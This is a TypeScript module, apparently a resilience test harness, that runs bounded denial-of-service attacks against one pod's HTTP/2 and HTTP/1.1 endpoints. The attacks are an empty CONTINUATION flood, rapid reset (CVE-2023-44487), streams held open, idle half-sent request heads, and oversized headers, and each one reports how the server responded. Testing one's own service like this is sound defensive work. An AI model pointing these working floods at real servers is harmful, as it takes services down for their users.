// Connection- and frame-level attacks on one pod's data plane, each bounded in count and time.
// Each runs until `stop()` and reports what the server did to it.
import http2 from "node:http2";
import net from "node:net";
import {
  connectRaw,
  Flags,
  FrameType,
  frame,
  grpcRequestHeaders,
  headerBlock,
  type RawH2Connection,
} from "./h2-frames.ts";

export interface Attack {
  /** Ends the attack and closes every connection it opened; resolves its report. */
  stop(): Promise<string>;
}

const ADD_FLOATS = "/foo.bar.AdderService/AddFloats";

/** Keeps reconnecting while `step` floods one connection, until stopped. */
function reconnecting(
  host: string,
  port: number,
  step: (connection: RawH2Connection, block: Buffer) => Promise<void>,
  what: string,
): Attack {
  let running = true;
  let connections = 0;
  let goAways = 0;
  let current: RawH2Connection | undefined;
  const block = headerBlock(grpcRequestHeaders(`${host}:${port}`, ADD_FLOATS));
  const loop = (async () => {
    while (running) {
      try {
        current = await connectRaw(host, port);
      } catch {
        await Bun.sleep(10);
        continue;
      }
      connections++;
      while (running && !current.socket.destroyed) await step(current, block);
      if (current.goAwayCode() !== undefined) goAways++;
      current.destroy();
    }
  })();
  return {
    async stop() {
      running = false;
      current?.destroy();
      await loop;
      return `${what}: ${connections} connection(s), ${goAways} ended by GOAWAY`;
    },
  };
}

/** HEADERS without END_HEADERS, then empty CONTINUATION frames without end. */
export function emptyContinuationFlood(host: string, port: number): Attack {
  const empty = frame(FrameType.Continuation, 0, 1);
  const batch = Buffer.concat(Array.from({ length: 1000 }, () => empty));
  const started = new WeakSet<RawH2Connection>();
  return reconnecting(
    host,
    port,
    async (connection, block) => {
      if (!started.has(connection)) {
        connection.write(frame(FrameType.Headers, 0, 1, block));
        started.add(connection);
      }
      if (!connection.write(batch)) await Bun.sleep(1);
      await Bun.sleep(0);
    },
    "empty CONTINUATION flood",
  );
}

/** A stream opened and reset at once, over and over (CVE-2023-44487). */
export function rapidReset(host: string, port: number): Attack {
  let stream = 1;
  const cancel = Buffer.from([0, 0, 0, 8]);
  return reconnecting(
    host,
    port,
    async (connection, block) => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100; i++) {
        frames.push(frame(FrameType.Headers, Flags.EndHeaders, stream, block));
        frames.push(frame(FrameType.RstStream, 0, stream, cancel));
        stream += 2;
        if (stream > 2 ** 31 - 2) stream = 1;
      }
      if (!connection.write(Buffer.concat(frames))) await Bun.sleep(1);
      await Bun.sleep(0);
    },
    "rapid reset",
  );
}

/**
 * `streams` streams opened over `connections` connections and left open (request headers, no
 * body, no END_STREAM), whatever limit the server advertises.
 */
export async function openStreams(
  host: string,
  port: number,
  connections: number,
  streams: number,
): Promise<Attack> {
  const block = headerBlock(grpcRequestHeaders(`${host}:${port}`, ADD_FLOATS));
  const opened: RawH2Connection[] = [];
  const perConnection = Math.ceil(streams / connections);
  for (let c = 0; c < connections; c++) {
    const connection = await connectRaw(host, port);
    opened.push(connection);
    const frames: Buffer[] = [];
    for (let i = 0; i < perConnection; i++) {
      frames.push(frame(FrameType.Headers, Flags.EndHeaders, 1 + 2 * i, block));
    }
    connection.write(Buffer.concat(frames));
  }
  return {
    async stop() {
      const closedByServer = opened.filter(
        (c) => c.socket.destroyed || c.goAwayCode() !== undefined,
      );
      const refused = opened.reduce((n, c) => n + (c.received.get(FrameType.RstStream) ?? 0), 0);
      for (const connection of opened) connection.destroy();
      return `${connections} connection(s) × ${perConnection} open streams: ${closedByServer.length} closed by the server, ${refused} stream(s) refused`;
    },
  };
}

/** Connections per child: its file descriptors stay under the 20,000 a process may have here. */
const CONNECTIONS_PER_CHILD = 10_000;

/**
 * `count` TCP connections that send half an HTTP/1.1 request head and then nothing, held by
 * child processes (idle-heads-child.ts) so that their file descriptors are not the test's.
 */
export async function idleHeads(host: string, port: number, count: number): Promise<Attack> {
  const children: { child: Bun.Subprocess; report: () => Promise<string> }[] = [];
  for (let left = count; left > 0; left -= CONNECTIONS_PER_CHILD) {
    const child = Bun.spawn(
      [
        process.execPath,
        `${import.meta.dir}/idle-heads-child.ts`,
        host,
        String(port),
        String(Math.min(left, CONNECTIONS_PER_CHILD)),
      ],
      { stdout: "pipe", stderr: "inherit", stdin: "pipe" },
    );
    const reader = child.stdout.getReader();
    let text = "";
    const readUntil = async (stop: () => boolean) => {
      while (!stop()) {
        const { value, done } = await reader.read();
        if (done) return false;
        text += new TextDecoder().decode(value);
      }
      return true;
    };
    if (!(await readUntil(() => text.includes("\n")))) {
      throw new Error(`idle heads: a child exited early (${await child.exited})`);
    }
    children.push({
      child,
      report: async () => {
        child.stdin.end();
        await readUntil(() => false);
        await child.exited;
        return text.trim().replaceAll("\n", ", ");
      },
    });
  }
  return {
    async stop() {
      const reports: string[] = [];
      for (const { report } of children) reports.push(await report());
      return `idle half-sent HTTP/1.1 heads: ${reports.join("; ")}`;
    },
  };
}

/** The status an oversized request head gets, over HTTP/1.1 and HTTP/2 (`headerBytes` in one header). */
export async function oversizedHeaders(
  host: string,
  port: number,
  headerBytes: number,
): Promise<{ http1: string; http2: string }> {
  const http1 = await new Promise<string>((resolve) => {
    const socket = net.connect({ host, port }, () => {
      socket.write(
        `POST ${ADD_FLOATS} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nX-Big: ${"a".repeat(headerBytes)}\r\nContent-Length: 2\r\n\r\n{}`,
      );
    });
    let reply = "";
    socket.on("data", (chunk) => {
      reply += chunk.toString("latin1");
    });
    socket.on("error", () => {});
    socket.on("close", () => resolve(reply.split("\r\n")[0] || "closed without an answer"));
    socket.setTimeout(5000, () => socket.destroy());
  });
  const http2Status = await new Promise<string>((resolve) => {
    const session = http2.connect(`http://${host.includes(":") ? `[${host}]` : host}:${port}`);
    const done = (outcome: string) => {
      session.destroy();
      resolve(outcome);
    };
    session.on("error", (error) => done(`session error: ${error.message}`));
    session.on("goaway", (code) => done(`GOAWAY ${code}`));
    const stream = session.request({
      ":method": "POST",
      ":path": ADD_FLOATS,
      "content-type": "application/grpc",
      te: "trailers",
      "x-big": "a".repeat(headerBytes),
    });
    stream.on("response", (headers) => done(`:status ${headers[":status"]}`));
    stream.on("error", (error) => done(`stream error: ${error.message}`));
    stream.on("close", () => done(`closed (RST_STREAM ${stream.rstCode})`));
    stream.end();
    setTimeout(() => done("no answer in 5 s"), 5000);
  });
  return { http1, http2: http2Status };
}
